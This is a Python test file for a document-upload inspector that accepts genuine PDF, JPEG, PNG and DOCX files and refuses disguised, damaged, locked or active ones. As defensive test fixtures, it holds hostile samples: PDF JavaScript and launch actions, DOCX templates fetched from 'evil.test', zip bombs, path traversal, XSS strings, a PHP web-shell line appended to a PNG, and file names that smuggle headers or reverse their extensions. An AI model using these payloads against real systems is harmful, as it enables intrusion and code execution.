"""Files true and false, each taken or refused for the reason that is documented; what is taken carries no place."""

import os
import re
import struct
import time
import tracemalloc
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter

from portal.documents.inspecting import inspect
from portal.domain.document import ENDINGS, LONGEST_NAME, Media, clean_name, expected
from portal.domain.refusal import Refused
from tests.documents import made

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(64)
GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\0" + bytes(300)
ZIP = made.parcel({"a.txt": "hej"})
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


WEBP = b"RIFF\x24\0\0\0WEBPVP8 " + bytes(30)
PROTECTED_WORD = OLE + "EncryptedPackage".encode("utf-16-le") + bytes(90)
OPEN = "d530f54c31d003f5f437fe8fcd731eb8fc0983a330a2e366ddb3eaf7a2d4db49" + b"kursbeviandrasal".hex()
"""What revision 6 keeps of a user's password that is empty: its hash, by another program's AES, and two salts."""


def aes_256(user: str, *more: str, packed: bool = False) -> bytes:
    """A PDF that is encrypted as today's programs do."""
    dictionary = f"<</Filter/Standard/V 5/R 6/Length 256/P -4/U<{user}>/O<{'00' * 48}>>>"
    lists = made.active_pdf("1 ", packed=True) if packed else b""
    return made.active_pdf(dictionary, *more, catalog="/Encrypt 5 0 R") + lists


AES_256 = aes_256("00" * 48)


def encrypted_pdf(password: str, algorithm: str = "RC4-128") -> bytes:
    """A PDF whose owner restricts it, and that opens with a password, which may be none."""
    writer, out = PdfWriter(clone_from=PdfReader(BytesIO(made.pdf()))), BytesIO()
    writer.encrypt(password, "owner", algorithm=algorithm)
    writer.write(out)
    return out.getvalue()


def far_template(address: str, quote: str = '"') -> bytes:
    relation = (
        '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target={quote}{address}{quote} TargetMode={quote}External{quote}/>'
        "</Relationships>"
    )
    return made.docx({"word/_rels/settings.xml.rels": relation})


def encrypted(content: bytes) -> bytes:
    """The same zip with every part marked as locked."""
    out = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(mark)
        while at >= 0:
            out[at + place] |= 1
            at = out.find(mark, at + 4)
    return bytes(out)


def overlapping() -> bytes:
    """A zip whose list names one part a hundred times, so that it says far more than the file holds."""
    whole = made.docx({"word/a.bin": os.urandom(20_000)})
    with ZipFile(BytesIO(whole)) as parcel:
        [part] = [each for each in parcel.infolist() if each.filename == "word/a.bin"]
    start = whole.index(b"PK\x01\x02")
    end = whole.rindex(b"PK\x05\x06")
    one = whole[whole.index(b"word/a.bin", start) - 46 : end]
    more = b"".join(one.replace(b"word/a.bin", b"word/%05d" % n) for n in range(100))
    count = len(whole[start:end].split(b"PK\x01\x02")) - 1 + 100
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, end - start + len(more), start, 0)
    assert part.compress_size > 10_000
    return whole[:end] + more + tail


def swollen() -> bytes:
    """A DOCX whose list says that one part comes to 300 MB."""
    whole = bytearray(made.docx({"word/a.bin": "x" * 1_000_000}))
    entry = whole.rindex(b"word/a.bin") - 46
    whole[entry + 24 : entry + 28] = struct.pack("<I", 300 * 1024 * 1024)
    return bytes(whole)


def traversing() -> bytes:
    return made.docx({"../../word/evil.xml": "x"})


def doubled() -> bytes:
    whole = made.docx({"word/a.xml": "1", "word/b.xml": "2"})
    return whole.replace(b"word/b.xml", b"word/a.xml")


_LAUNCH, _GOTO, _SITE = "<</S/Launch/F(a.exe)>>", "<</S/GoTo/D(a)>>", "<</S/URI/URI(https://evil.test)>>"
_HIDDEN = made.active_pdf("<</S/JavaScript/JS(1)>>", packed=True)
ACTIVE = {
    "a script": made.active_pdf("<</S /JavaScript /JS (app.alert\\(1\\))>>"),
    "a script in disguise": made.active_pdf("<</S /J#61vaScr#69pt /#4a#53 (1)>>"),
    "a script in a list": made.active_pdf("1 ", "<</S/JavaScript/JS 8 0 R>>", packed=True),
    "a script in a list in disguise": made.active_pdf("<</S/Rendition/J#53(1)>>", packed=True),
    "a script behind what is no stream": made.active_pdf("<</JavaScript 1>>", between=b"% stream\n"),
    "a list behind what is no stream": made.active_pdf(_LAUNCH, packed=True, between=b"% stream\n"),
    "a program to launch": made.active_pdf(_LAUNCH),
    "a file in it": made.active_pdf("<</Type /EmbeddedFile>>"),
    "acts of a page": made.active_pdf("<</AA <</O 5 0 R>> >>"),
    "a site that it opens": made.active_pdf(catalog=f"/OpenAction {_SITE}"),
    "a site that it opens by reference": made.active_pdf(_SITE, catalog="/OpenAction 5 0 R"),
    "a site that it opens from a list": made.active_pdf("1 ", _SITE, catalog="/OpenAction 6 0 R", packed=True),
    "a site that it opens since a change": made.active_pdf(_GOTO, between=b"5 0 obj " + _SITE.encode(),
                                                           catalog="/OpenAction 5 0 R"),
    "a site that it opens next": made.active_pdf(_GOTO.replace("/D", "/Next 7 0 R/D"), catalog="/OpenAction 5 0 R"),
    "a site behind a comment": made.active_pdf(catalog="/OpenAction <</S/GoTo/D[1]%>>\n/Next 7 0 R>>"),
    "what it opens is not there": made.active_pdf(catalog="/OpenAction 7 0 R"),
    "what it opens after much space": made.active_pdf(catalog=f"/Open#41ction{' ' * 999}{_SITE}"),
    "a list packed as another object says": _HIDDEN.replace(b"/Filter/FlateDecode", b"/Filter 8 0 R"),
    "a list that another object says it is": _HIDDEN.replace(b"/Type/ObjStm", b"/Type 8 0 R"),
    "a list behind a long comment": _HIDDEN.replace(b"/N 1", b"%" + b"x" * 5_000 + b"\n/N 1"),
    "a list behind a word in it": _HIDDEN.replace(b"/N 1", b"/X (obj)/N 1"),
    "a list behind many spaces": _HIDDEN.replace(b">>stream\r", b">>stream" + b" " * 99 + b"\r"),
    "a form with scripts of its own": made.active_pdf("<</XFA [(a) 8 0 R]>>"),
    "a file that a link opens": made.active_pdf("<</S/GoToE/F 8 0 R>>"),
    "a list packed in another way": made.active_pdf("1 ", packed=True).replace(b"/FlateDecode", b"[/AHx/Fl]"),
}  # fmt: skip


REFUSED: dict[str, tuple[str, bytes, str]] = {
    # what it is: name, content, code
    "nothing at all": ("tom.pdf", b"", "document.empty"),
    "a program after a PDF's ending": ("kvitto.pdf.exe", made.pdf(), "document.unknown-type"),
    "an ending turned around by a hidden mark": ("kvitto\u202efdp.exe", made.pdf(), "document.unknown-type"),
    "GIF": ("bild.gif", GIF, "document.unknown-type"),
    "SVG": ("bild.svg", SVG, "document.unknown-type"),
    "HTML": ("sida.html", HTML, "document.unknown-type"),
    "HEIC": ("bild.heic", HEIC, "document.unknown-type"),
    "DOC": ("brev.doc", OLE, "document.unknown-type"),
    "text without an ending": ("brev", b"Hej", "document.unknown-type"),
    "PDF called HTML": ("kvitto.html", made.pdf(), "document.unknown-type"),
    "WebP called JPEG": ("a.jpeg", WEBP, "document.other-content"),
    "WebP": ("a.webp", WEBP, "document.unknown-type"),
    "DOCM": ("brev.docm", made.docx(main=MACRO_MAIN), "document.programs"),
    "DOCX that a password protects": ("a.docx", PROTECTED_WORD, "document.locked"),
    "XLSX that a password protects": ("a.xlsx", PROTECTED_WORD, "document.locked"),
    "PDF that asks for a password": ("a.pdf", encrypted_pdf("hemligt"), "document.locked"),
    "PDF that asks for an older one": ("a.pdf", encrypted_pdf("hemligt", "RC4-40"), "document.locked"),
    "PDF that asks for one by AES": ("a.pdf", AES_256, "document.locked"),
    "PDF for the owners of certificates": (
        "a.pdf",
        made.active_pdf("<</Filter/Adobe.PubSec/V 4>>", catalog="/Encrypt 5 0 R"),
        "document.locked",
    ),
    "PDF that hides that it asks for one": (
        "a.pdf",
        AES_256.replace(b"/Encrypt", b"/#45ncrypt"),
        "document.locked",
    ),
    "ZIP": ("allt.zip", ZIP, "document.unknown-type"),
    "text called PDF": ("a.pdf", b"Hej", "document.other-content"),
    "HTML called PDF": ("a.pdf", HTML, "document.other-content"),
    "SVG called PNG": ("a.png", SVG, "document.other-content"),
    "SVG called JPEG": ("a.jpg", SVG, "document.other-content"),
    "a program called PDF": ("a.pdf", EXE, "document.other-content"),
    "HEIC called JPEG": ("a.jpg", HEIC, "document.other-content"),
    "GIF called PNG": ("a.png", GIF, "document.other-content"),
    "DOC called DOCX": ("a.docx", OLE, "document.other-content"),
    "ZIP called DOCX": ("a.docx", ZIP, "document.other-content"),
    "XLSX called DOCX": ("a.docx", made.docx(main=XLSX_MAIN), "document.other-content"),
    "a Word template called DOCX": ("a.docx", made.docx(main=TEMPLATE_MAIN), "document.other-content"),
    "a word folder without its list": ("a.docx", made.parcel({"word/x": "1"}), "document.other-content"),
    **{f"a PDF with {what}": ("a.pdf", content, "document.programs") for what, content in ACTIVE.items()},
    "a PDF with a list that is locked": (
        "a.pdf",
        made.active_pdf("1 ", catalog="/Encrypt 8 0 R", packed=True),
        "document.locked",
    ),
    "a PDF whose lists come to 100 MB": (
        "a.pdf",
        made.active_pdf("0" * 100_000_000, packed=True),
        "document.too-much",
    ),
    "HTML in front of a PDF": ("a.pdf", HTML + made.pdf(), "document.other-content"),
    "a program in front of a zip": ("a.docx", EXE + made.docx(), "document.other-content"),
    "a PDF cut off": ("a.pdf", made.pdf()[:-60], "document.damaged"),
    "only the mark of a PDF": ("a.pdf", b"%PDF-1.7\n", "document.damaged"),
    "a JPEG cut off": ("a.jpg", made.jpeg()[:-4], "document.damaged"),
    "only the mark of a JPEG": ("a.jpg", b"\xff\xd8\xff\xe0", "document.other-content"),
    "a JPEG without a picture": ("a.jpg", b"\xff\xd8" + made.exif() + b"\xff\xd9", "document.damaged"),
    "a JPEG that says it is longer": ("a.jpg", b"\xff\xd8\xff\xe0\xff\xff" + bytes(50), "document.damaged"),
    "a PNG cut off": ("a.png", made.png()[:-20], "document.damaged"),
    "a PNG with a wrong sum": ("a.png", made.png()[:-30] + b"\0" + made.png()[-29:], "document.damaged"),
    "a PNG without a picture": (
        "a.png",
        made.PNG
        + made.chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0))
        + made.chunk(b"IEND", b""),
        "document.damaged",
    ),
    "a PNG of no size": ("a.png", made.png(0, 0), "document.damaged"),
    "a PNG of 60 000 × 60 000": ("a.png", made.png(60_000, 60_000), "document.too-much"),
    "a JPEG of 65 000 × 65 000": ("a.jpg", made.jpeg(width=65_000, height=65_000), "document.too-much"),
    "a DOCX cut off": ("a.docx", made.docx()[:-40], "document.damaged"),
    "a DOCX with a path upwards": ("a.docx", traversing(), "document.damaged"),
    "a DOCX with one name twice": ("a.docx", doubled(), "document.damaged"),
    "a DOCX that is locked": ("a.docx", encrypted(made.docx()), "document.locked"),
    "a DOCX with macros by its list": ("a.docx", made.docx(main=MACRO_MAIN), "document.programs"),
    "a DOCX with a macro project": ("a.docx", made.docx({"word/vbaProject.bin": b"x"}), "document.programs"),
    "the same in capitals": ("a.docx", made.docx({"word/VBAPROJECT.BIN": b"x"}), "document.programs"),
    "a DOCX with ActiveX": ("a.docx", made.docx({"word/activeX/activeX1.bin": b"x"}), "document.programs"),
    "a DOCX with a program in it": ("a.docx", made.docx({"word/embeddings/a.exe": EXE}), "document.programs"),
    "a DOCX that fetches a template": (
        "a.docx",
        far_template("http://evil.test/a.dotm"),
        "document.programs",
    ),
    "a template on a share": ("a.docx", far_template("\\\\evil\\s\\a.dotm"), "document.programs"),
    "a template on another machine": ("a.docx", far_template("file://evil/a.dotm"), "document.programs"),
    "a part from elsewhere": (
        "a.docx",
        made.docx(
            {"word/_rels/Other.xml.rels": '<Relationship Type="oleObject" Target="http://evil.test/a"/>'}
        ),
        "document.programs",
    ),
    "the same in other quotes": ("a.docx", far_template("https://evil.test/a", "'"), "document.programs"),
    "the same in disguise": ("a.docx", far_template("&#104;ttps://evil.test/a"), "document.programs"),
    "the same in UTF-16": (
        "a.docx",
        made.docx({"word/_rels/settings.xml.rels": "<Relationships/>".encode("utf-16")}),
        "document.damaged",
    ),
    "a DOCX of 300 MB": ("a.docx", swollen(), "document.too-much"),
    "a DOCX of 3 000 parts": (
        "a.docx",
        made.docx({f"word/{number}.xml": "" for number in range(3_000)}),
        "document.too-much",
    ),
    "a DOCX whose parts share their bytes": ("a.docx", overlapping(), "document.too-much"),
    "a DOCX with a list of 5 MB": (
        "a.docx",
        made.parcel({"[Content_Types].xml": made.types() + " " * 5_000_000, "word/document.xml": "x"}),
        "document.too-much",
    ),
}


@pytest.mark.parametrize(("name", "content", "code"), REFUSED.values(), ids=REFUSED)
def test_a_file_is_refused_for_its_reason(name: str, content: bytes, code: str) -> None:
    with pytest.raises(Refused) as refused:
        inspect(name, content)
    assert refused.value.refusal.code == code
    assert refused.value.refusal.values["name"] == clean_name(name)


@pytest.mark.parametrize(("content", "says"), [(HEIC, "HEIC"), (WEBP, "WebP")], ids=["HEIC", "WebP"])
def test_a_picture_of_another_kind_is_told_what_to_become(content: bytes, says: str) -> None:
    for name in ("a.heic", "a.jpg", "a.webp", "a"):
        with pytest.raises(Refused) as refused:
            inspect(name, content)
        assert says in refused.value.refusal.text


def test_what_asks_for_a_password_is_told_from_what_cannot_be_looked_through() -> None:
    for name, content, says in (
        ("a.pdf", encrypted_pdf("hemligt"), "locked with a password"),
        ("a.docx", PROTECTED_WORD, "locked with a password"),
        ("a.pdf", AES_256, "locked with a password"),
        ("a.pdf", aes_256(OPEN, packed=True), "is protected"),
        ("a.pdf", AES_256.replace(b"/R 6", b"/R 7"), "is protected"),
    ):
        with pytest.raises(Refused) as refused:
            inspect(name, content)
        assert says in refused.value.refusal.text


@pytest.mark.parametrize(
    ("name", "content", "kept"),
    [
        ("kvitto", made.pdf(), "kvitto.pdf"),
        (".pdf", made.pdf(), "pdf.pdf"),
        ("kvitto.txt", made.pdf(), "kvitto.pdf"),
        ("kvitto.\uff50\uff44\uff46", made.pdf(), "kvitto.\uff50\uff44\uff46.pdf"),
        ("Faktura 2024.03", made.pdf(), "Faktura 2024.03.pdf"),
        ("skärm.jpg", made.png(), "skärm.png"),
        ("foto.PNG", made.jpeg(), "foto.jpg"),
        ("IMG_0001.HEIC", made.jpeg(), "IMG_0001.jpg"),
        ("bild.webp", made.png(), "bild.png"),
        ("a.pdf", made.png(), "a.png"),
        ("a.docx", made.pdf(), "a.pdf"),
        ("brev.doc", made.docx(), "brev.docx"),
        ("x" * 300, made.pdf(), "x" * (LONGEST_NAME - 4) + ".pdf"),
    ],
)
def test_what_is_of_a_kind_that_is_taken_is_named_after_it(name: str, content: bytes, kept: str) -> None:
    assert inspect(name, content).name == kept


TAKEN: dict[str, tuple[str, bytes, Media]] = {
    "PDF": ("Kvittering.pdf", made.pdf(), Media.PDF),
    "PDF in capitals": ("KVITTO.PDF", made.pdf(), Media.PDF),
    "PDF with a line before it": ("a.pdf", b"\r\n" + made.pdf(), Media.PDF),
    "PDF before 3 000 zeros": ("a.pdf", made.pdf() + bytes(3_000), Media.PDF),
    "PDF before 80 000 spaces and lines": ("a.pdf", made.pdf() + b" \r\n\t" * 20_000, Media.PDF),
    "PDF before 3 000 bytes of erased flash": ("a.pdf", made.pdf() + b"\xff" * 3_000, Media.PDF),
    "PDF whose owner restricts it": ("a.pdf", encrypted_pdf(""), Media.PDF),
    "PDF whose owner restricts it today": ("a.pdf", aes_256(OPEN), Media.PDF),
    "PDF whose owner restricted it long ago": ("a.pdf", encrypted_pdf("", "RC4-40"), Media.PDF),
    "PDF of two revisions": ("a.pdf", made.pdf() + made.pdf()[-60:], Media.PDF),
    "PDF and zip in one": ("a.pdf", made.pdf() + ZIP + b"\nstartxref\n0\n%%EOF\n", Media.PDF),
    "PDF that opens at its first page": (
        "a.pdf",
        made.active_pdf(catalog="/OpenAction [3 0 R /FitH null]"),
        Media.PDF,
    ),
    "PDF that says so elsewhere": (
        "a.pdf",
        made.active_pdf("<</S /GoTo /D [3 0 R /Fit]>>", catalog="/OpenAction 5 0 R"),
        Media.PDF,
    ),
    "PDF that says so in a list": (
        "a.pdf",
        made.active_pdf("1 ", "<</S/GoTo/D(a)>> ", catalog="/OpenAction 6 0 R", packed=True),
        Media.PDF,
    ),
    "PDF with a link": (
        "a.pdf",
        made.active_pdf("<</S /URI /URI (https://a.test/JS)>>", packed=True),
        Media.PDF,
    ),
    "PDF with /JS by chance": (
        "a.pdf",
        made.pdf().replace(b"BT", b"\x01/JS\0/AA /J"),
        Media.PDF,
    ),
    "JPEG": ("a.jpg", made.jpeg(), Media.JPEG),
    "JPEG from an old browser": ("a.jfif", made.jpeg(), Media.JPEG),
    "JPEG with a place": ("a.jpeg", made.jpeg(made.exif()), Media.JPEG),
    "JPEG and zip in one": ("a.jpg", made.jpeg() + ZIP, Media.JPEG),
    "PNG": ("a.png", made.png(), Media.PNG),
    "PNG and PHP in one": ("a.png", made.png() + b"<?php system($_GET[0]); ?>", Media.PNG),
    "DOCX": ("a.docx", made.docx(), Media.DOCX),
    "DOCX with a template on a disk": ("a.docx", far_template("file:///C:/Mallar/Normal.dotm"), Media.DOCX),
    "DOCX with an embedded sheet": ("a.docx", made.docx({"word/embeddings/Sheet1.xlsx": b"PK"}), Media.DOCX),
}


@pytest.mark.parametrize(("name", "content", "media"), TAKEN.values(), ids=TAKEN)
def test_a_true_file_is_taken(name: str, content: bytes, media: Media) -> None:
    file = inspect(name, content)
    assert (file.name, file.media) == (name, media)
    assert file.content
    if media in (Media.PDF, Media.DOCX):
        assert file.content == content


def test_what_a_picture_tells_besides_itself_is_taken_out() -> None:
    secrets = (b"59.3293N", b"Anna Svensson", b"2024:03:01", b"PK\x03\x04", b"<?php", b"<x:xmpmeta")
    told = (
        made.exif(1, b"59.3293N 18.0686E"),
        made.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>59.3293N</x:xmpmeta>"),
        made.segment(0xED, b"Photoshop 3.0\0Anna Svensson"),
        made.segment(0xFE, b"Anna Svensson 2024:03:01"),
        made.segment(0xE2, b"MPF\0" + b"59.3293N"),
    )
    photo = inspect("a.jpg", made.jpeg(*told) + made.jpeg(made.exif(1, b"59.3293N")) + ZIP).content
    screen = inspect(
        "a.png",
        made.png(
            8,
            8,
            made.chunk(b"tEXt", b"Author\0Anna Svensson"),
            made.chunk(b"eXIf", b"MM\0*59.3293N"),
            made.chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>59.3293N"),
            made.chunk(b"tIME", b"\x07\xe8\x03\x01\0\0\0"),
        )
        + b"<?php",
    ).content
    assert photo == made.jpeg()
    assert screen == made.png()
    assert not [secret for secret in secrets for kept in (photo, screen) if secret in kept]


@pytest.mark.parametrize("orientation", range(1, 9))
def test_which_way_is_up_stays(orientation: int) -> None:
    kept = inspect("a.jpg", made.jpeg(made.exif(orientation))).content
    found = re.search(rb"Exif\0\0MM\0\*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0(.)", kept, re.DOTALL)
    assert (found[1][0] if found else 1) == orientation
    assert inspect("a.jpg", kept).content == kept


def test_the_colours_stay() -> None:
    profile = made.segment(0xE2, b"ICC_PROFILE\0\x01\x01" + b"P" * 40)
    assert profile in inspect("a.jpg", made.jpeg(profile)).content
    colours = made.chunk(b"gAMA", struct.pack(">I", 45455))
    assert colours in inspect("a.png", made.png(8, 8, colours)).content


def test_bombs_cost_neither_time_nor_memory() -> None:
    flate = made.pdf().replace(b"%%EOF", b"") + zlib.compress(bytes(50_000_000)) + b"startxref\n0\n%%EOF"
    bombs = [REFUSED["a DOCX of 300 MB"][:2], REFUSED["a PNG of 60 000 × 60 000"][:2], ("a.pdf", flate)]
    tracemalloc.start()
    began = time.perf_counter()
    for name, content in bombs:
        try:
            inspect(name, content)
        except Refused:
            continue
    took, (_now, peak) = time.perf_counter() - began, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert took < 2
    assert peak < 10_000_000


def verdict(name: str, content: bytes) -> str:
    """What comes of a file: "taken", or the code of its refusal."""
    try:
        inspect(name, content)
    except Refused as refused:
        return refused.refusal.code
    return "taken"


STARTS = (b"", b"%PDF-1.4", made.PNG, b"\xff\xd8\xff\xe0", b"PK\x03\x04")


@given(st.binary(max_size=400), st.sampled_from(sorted(ENDINGS)), st.sampled_from(STARTS))
def test_nothing_else_than_a_refusal_comes_of_any_bytes(content: bytes, ending: str, start: bytes) -> None:
    assert verdict(f"a{ending}", start + content).startswith("document.")


def _damaged(whole: bytes) -> st.SearchStrategy[bytes]:
    place = st.integers(0, len(whole) - 1)
    return st.lists(st.tuples(place, st.integers(0, 255)), max_size=8).map(
        lambda changes: bytes(dict(changes).get(at, byte) for at, byte in enumerate(whole))
    )


@pytest.mark.parametrize(("name", "make"), [("a.jpg", made.jpeg), ("a.png", made.png), ("a.docx", made.docx)])
def test_nor_of_a_true_file_with_faults(name: str, make: Callable[[], bytes]) -> None:
    @given(_damaged(make()))
    def check(content: bytes) -> None:
        found = verdict(name, content)
        assert found == "taken" or found.startswith("document.")

    check()


NAMES = {
    "Kvittering på kurs, «Skrøpelige eldre».pdf": "Kvittering på kurs, «Skrøpelige eldre».pdf",
    'Årets "bästa" kurs; 50 %.pdf': 'Årets "bästa" kurs; 50 %.pdf',
    "C:\\Users\\Anna\\Skrivbord\\kvitto.pdf": "kvitto.pdf",
    "../../etc/passwd.pdf": "passwd.pdf",
    "/etc/cron.d/x.png": "x.png",
    "a\0b.pdf": "ab.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie: x=1.pdf",
    "kvitto\u202efdp.jpg": "kvittofdp.jpg",
    "\u2066kvitto\u2069\u200e.pdf": "kvitto.pdf",
    "\ufeffkvitto.pdf": "kvitto.pdf",
    "a\u030angstro\u0308m.pdf": "ångström.pdf",
    "   kvitto   2 .pdf": "kvitto 2.pdf",
    "...kvitto.pdf": "kvitto.pdf",
    "CON.pdf": "_CON.pdf",
    "nul.tar.pdf": "_nul.tar.pdf",
    "\u202e\u202e.pdf": "pdf",
    "": "document",
    "/": "document",
    "👩\u200d⚕️ intyg.png": "👩\u200d⚕️ intyg.png",
    "<img src=x onerror=alert(1)>.pdf": "<img src=x onerror=alert(1)>.pdf",
    "\ud800half.pdf": "half.pdf",
    "x" * 300 + ".docx": "x" * (LONGEST_NAME - 5) + ".docx",
}


@pytest.mark.parametrize(("typed", "shown"), NAMES.items(), ids=range(len(NAMES)))
def test_a_name_is_kept_as_far_as_it_can_be_shown(typed: str, shown: str) -> None:
    assert clean_name(typed) == shown


@given(st.text(max_size=400))
def test_any_name_becomes_one_that_can_be_shown(typed: str) -> None:
    name = clean_name(typed)
    assert 1 <= len(name) <= LONGEST_NAME
    assert not re.search("[\0-\x1f\x7f-\x9f/\\\\\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", name)
    assert clean_name(name) == name
    assert expected(name) in (None, *Media)
    name.encode()
